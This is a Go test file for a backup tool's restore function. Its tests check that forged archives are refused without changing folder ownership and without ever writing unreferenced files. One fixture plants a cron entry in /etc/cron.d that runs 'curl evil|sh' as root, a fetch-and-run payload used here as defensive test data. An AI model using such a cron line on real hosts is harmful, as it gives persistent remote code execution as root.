package backup

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"syscall"
	"testing"

	bprofile "github.com/stella-ops/stella-mirror/backup/profile"
)

// TestRefusedRestoreKeepsExistingFolderOwners: a forged archive (here
// signed by a trusted key by mistake) with a folder entry for a folder
// that already exists under the restore root and that no configuration
// references is refused — and the folder keeps its owner and mode. As
// root, restore chowns folder entries before the rules are checked; the
// undo must put the owner back, not only the mode.
func TestRefusedRestoreKeepsExistingFolderOwners(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: restore changes owners only as root")
	}
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(t.TempDir(), "root")
	existing := filepath.Join(root, "srv", "data")
	if err := os.MkdirAll(existing, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(existing, 0, 0); err != nil {
		t.Fatal(err)
	}
	fg := unpack(t, res.Archive)
	fg.m.Entries = append(fg.m.Entries, Entry{Path: "/srv/data", Type: TypeDir, Mode: "0777", Kind: "include", UID: 4242, GID: 4242})
	_, err = testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root, Chown: true})
	if err == nil {
		t.Fatal("a folder entry no configuration references was restored")
	}
	t.Log(err)
	fi, err := os.Stat(existing)
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	if st.Uid != 0 || st.Gid != 0 {
		t.Errorf("%s is owned by %d:%d after the refused restore, want 0:0 as before", existing, st.Uid, st.Gid)
	}
	if fi.Mode().Perm() != 0o755 {
		t.Errorf("%s has mode %v after the refused restore, want 0755 as before", existing, fi.Mode().Perm())
	}
}

// TestUnreferencedEntryNeverWritten: restore --to / puts files on a live
// host, where a file in /etc/cron.d is acted on the moment it exists. An
// entry no restored configuration references must be refused before it
// is written, not written and removed again: when the configurations are
// loaded (the rules need them), nothing but the configurations (and their
// folders) may be under the root yet.
func TestUnreferencedEntryNeverWritten(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	fg := unpack(t, res.Archive)
	fg.add("/etc/cron.d/evil", "0644", "config", []byte("* * * * * root sh -c 'curl evil|sh'\n"))
	root := filepath.Join(t.TempDir(), "root")
	evil := filepath.Join(root, "etc", "cron.d")
	seen := ""
	_, err = testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root,
		References: func(ctx context.Context, root string, configs []string, maps []PathMapping) ([]Reference, error) {
			if _, err := os.Lstat(evil); err == nil {
				seen = listTree(t, evil)
			}
			return bprofile.References(ctx, root, configs, maps)
		}})
	if !errors.Is(err, ErrRefused) {
		t.Fatalf("err = %v, want ErrRefused", err)
	}
	if seen != "" {
		t.Errorf("the unreferenced entry was written before the rules refused it:\n%s", seen)
	}
	emptyDir(t, root)
}
